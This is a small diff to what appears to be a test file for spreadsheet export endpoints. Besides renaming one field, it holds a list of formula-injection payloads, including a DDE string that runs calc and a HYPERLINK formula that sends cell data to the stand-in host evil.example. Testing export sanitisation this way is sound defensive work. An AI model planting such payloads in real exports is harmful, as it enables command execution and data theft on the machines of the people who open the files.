@@ -14,7 +14,7 @@ XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 # Each would run in a spreadsheet that reads it as a formula; the last two begin with what some take away first.
 FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "=HYPERLINK(\"http://evil.example/?\"&A1)", "\t=1+1", "\r=1+1"]
 EXPORTED = {
-    "/api/v1/controls": ("name", "/api/v1/controls/export"),
+    "/api/v1/controls": ("title", "/api/v1/controls/export"),
     "/api/v1/risks": ("title", "/api/v1/risks/export"),
     "/api/v1/evidence": ("title", "/api/v1/evidence/export"),
 }
